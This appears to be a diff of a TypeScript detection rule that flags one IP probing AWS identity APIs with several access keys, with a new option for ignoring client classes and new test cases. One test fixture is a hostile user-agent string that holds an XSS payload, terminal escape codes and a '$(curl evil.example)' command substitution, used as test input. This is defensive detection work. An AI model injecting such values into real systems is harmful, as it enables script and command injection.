@@ -1,12 +1,15 @@
 import { z } from 'zod';
-import type { CloudEvent } from '../../core/index.js';
+import type { CloudEvent, UserAgentClass } from '../../core/index.js';
 import type { HitSummary } from '../rule.js';
 import { defineRule } from '../rule.js';
 import { denseWindowEntries } from '../state/windows.js';
 import { distinct } from '../grouping.js';
 import { sampleRecord, sampleRoleIdentity, sampleTime, sampleUserIdentity } from './samples.js';
 
-/** Calls an attacker makes to learn who a key is and what it may do. */
+/**
+ * Calls an attacker makes to learn who a key is and what it may do (GetAccessKeyInfo is logged in
+ * the caller's account only, so it shows when the batch holds keys of this account).
+ */
 const PROBES = [
   'GetCallerIdentity',
   'GetAccessKeyInfo',
@@ -17,6 +20,12 @@ const PROBES = [
   'ListAccessKeys',
   'GetAccountAuthorizationDetails',
 ];
+/** Every user-agent class, so the option can only name real ones. */
+const CLASSES = Object.keys({
+  'aws-cli': 1, 'aws-sdk': 1, console: 1, terraform: 1, 'offensive-os': 1, 'offensive-tool': 1,
+  'aws-service': 1, 'aws-internal': 1, browser: 1, scripting: 1, other: 1, missing: 1,
+} satisfies Record<UserAgentClass, 1>) as [UserAgentClass, ...UserAgentClass[]]; // prettier-ignore
+
 const options = z.object({
   minKeys: z
     .number()
@@ -32,10 +41,21 @@ const options = z.object({
     .max(1440)
     .default(15)
     .describe('how close together the probes must be'),
+  ignoreClients: z
+    .array(z.enum(CLASSES))
+    .default(['console', 'browser', 'terraform'])
+    .describe(
+      'user-agent classes whose probes are not counted: clients that hold one identity each (the console, a browser, Terraform checking who it runs as)',
+    ),
 });
 type Options = z.infer<typeof options>;
 
+const HOSTILE_UA =
+  'python-requests/2.31.0 \u001b[1;31m<svg onload=alert(1)>\u001b[0m | $(curl evil.example)';
 const KALI = 'aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off';
+const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
+const TERRAFORM =
+  'APN/1.0 HashiCorp/1.0 Terraform/1.8.5 (+https://www.terraform.io) terraform-provider-aws/5.60.0 aws-sdk-go-v2/1.30.3 ua/2.0 os/linux lang/go#1.22.5 api/sts#1.30.3';
 const T0 = '2025-03-04T09:00:00Z';
 const ATTACKER = '198.51.100.23';
 const NAT = '203.0.113.10';
@@ -56,7 +76,7 @@ export const reconKeyEnumeration = defineRule<Options>({
   id: 'recon.key-enumeration',
   title: 'One source tries several access keys',
   severity: 'high',
-  description: `One source IP made identity probes (${PROBES.join(', ')}) with at least \`minKeys\` (default 3) distinct access keys within \`windowMinutes\` (default 15) of each other: someone holding a batch of keys is finding out which work and what they are. Session keys (ASIA…) count once per principal, so a developer's rotating SSO or role sessions count as one. Calls made by AWS services for the account (no IP address) are not counted. Benign look-alikes it stays quiet for: one CI key calling GetCallerIdentity all day, two developers behind one NAT, a credential-inventory tool run by the security team (allow-list its CIDR or user agent).`,
+  description: `One source IP made identity probes (${PROBES.join(', ')}) with at least \`minKeys\` (default 3) distinct access keys within \`windowMinutes\` (default 15) of each other: someone holding a batch of keys is finding out which work and what they are. Session keys (ASIA…) count once per principal, so a developer's rotating SSO or role sessions count as one. Calls made by AWS services for the account (no IP address) are not counted, nor calls from the clients in \`ignoreClients\` (default the console, browsers and Terraform, which hold one identity each: several people behind one office NAT opening the IAM console, or CI jobs whose Terraform checks who it runs as, are not one person with a batch of keys). Benign look-alikes it stays quiet for: one CI key calling GetCallerIdentity all day, two developers behind one NAT, administrators behind one NAT on the IAM console, Terraform runs of several CI roles behind one NAT gateway, AWS services calling for the account, a credential-inventory tool run by the security team (allow-list its CIDR or user agent). Several people behind one NAT running the plain CLI within the window can still reach \`minKeys\`: raise it, or allow-list the NAT's address.`,
   runbook: [
     "List the keys in details.accessKeys and who owns them; each one that answered without an error (details.keysThatWorked) is in the attacker's hands.",
     'Deactivate those keys now (aws iam update-access-key --status Inactive) and save the events first.',
@@ -70,6 +90,7 @@ export const reconKeyEnumeration = defineRule<Options>({
   stateful: true,
   match(event, ctx) {
     if (event.sourceKind !== 'ipv4' && event.sourceKind !== 'ipv6') return undefined;
+    if (ctx.options.ignoreClients.includes(event.userAgentClass)) return undefined;
     const key = keyOf(event);
     if (event.sourceIp === undefined || key === undefined || event.timeMs === undefined)
       return undefined;
@@ -114,6 +135,20 @@ export const reconKeyEnumeration = defineRule<Options>({
           }),
         ),
         expect: { findings: 1, eventIds: ['iam-1', 'iam-2', 'iam-3'] },
+      },
+      {
+        name: 'a script on a hosting IPv6 address checks four keys with GetAccessKeyInfo, then GetCallerIdentity',
+        events: [1, 2, 3, 4].map((i) =>
+          sampleRecord({
+            eventID: `v6-${i}`,
+            userIdentity: stolen(i),
+            eventName: i === 1 ? 'GetAccessKeyInfo' : 'GetCallerIdentity',
+            sourceIPAddress: '2001:db8:4f2a::17',
+            userAgent: HOSTILE_UA,
+            eventTime: sampleTime(T0, i * 2),
+          }),
+        ),
+        expect: { findings: 1, eventIds: ['v6-1', 'v6-2', 'v6-3', 'v6-4'] },
       },
     ],
     nonMatch: [
@@ -160,6 +195,36 @@ export const reconKeyEnumeration = defineRule<Options>({
             userIdentity: stolen(i),
             sourceIPAddress: 'cloudformation.amazonaws.com',
             userAgent: 'cloudformation.amazonaws.com',
+            eventTime: sampleTime(T0, i),
+          }),
+        ),
+      },
+      {
+        name: 'three administrators behind one office NAT open the IAM console',
+        events: ['jane', 'omar', 'li'].map((who, i) =>
+          sampleRecord({
+            userIdentity: {
+              ...sampleRoleIdentity('AWSReservedSSO_Admin_0123456789abcdef', `${who}@example.com`),
+              accessKeyId: `ASIAQEXAMPLEADM0000${i}`,
+            },
+            eventSource: 'iam.amazonaws.com',
+            eventName: 'GetUser',
+            sourceIPAddress: NAT,
+            userAgent: i === 2 ? 'console.amazonaws.com' : FIREFOX,
+            eventTime: sampleTime(T0, i),
+          }),
+        ),
+      },
+      {
+        name: 'Terraform plans of three CI roles behind one NAT gateway check who they run as',
+        events: ['deploy-web', 'deploy-api', 'deploy-data'].map((role, i) =>
+          sampleRecord({
+            userIdentity: {
+              ...sampleRoleIdentity(role, 'gha'),
+              accessKeyId: `ASIAQEXAMPLECI00000${i}`,
+            },
+            sourceIPAddress: NAT,
+            userAgent: TERRAFORM,
             eventTime: sampleTime(T0, i),
           }),
         ),
